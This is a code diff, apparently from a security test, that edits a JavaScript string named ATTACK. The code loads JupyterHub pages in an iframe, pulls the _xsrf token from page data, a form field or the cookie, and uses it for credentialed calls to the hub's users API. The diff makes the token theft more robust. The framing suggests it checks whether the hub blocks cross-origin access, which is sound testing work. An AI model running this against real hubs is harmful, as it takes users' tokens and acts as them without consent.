@@ -194,14 +194,16 @@ ATTACK = """async (hub) => {
   catch (e) { out.api = 'blocked: ' + e.message; }
   const frame = (url) => new Promise((resolve) => {
     const f = document.createElement('iframe');
-    f.onload = () => { let d = null; try { d = f.contentDocument; } catch (e) {} resolve(d); };
+    f.onload = () => { let d = null; try { d = f.contentDocument; if (d) d.jhdata = f.contentWindow.jhdata; } catch (e) {}
+                       resolve(d); };
     setTimeout(() => resolve(undefined), 8000);
     f.src = url; document.body.appendChild(f);
   });
   const home = await frame(hub + '/hub/home');
-  if (home) {
+  if (home) {  // the token a hub page carries: its page data, a form, or the cookie
     const input = home.querySelector('input[name=_xsrf]');
-    out.xsrf = (input && input.value) || ((home.cookie || '').match(/_xsrf=([^;]+)/) || [])[1] || null;
+    out.xsrf = (home.jhdata && home.jhdata.xsrf_token) || (input && input.value)
+               || ((home.cookie || '').match(/_xsrf=([^;]+)/) || [])[1] || null;
   }
   if (out.xsrf) {
     out.api_with_xsrf = (await fetch(hub + '/hub/api/users', {credentials: 'include',
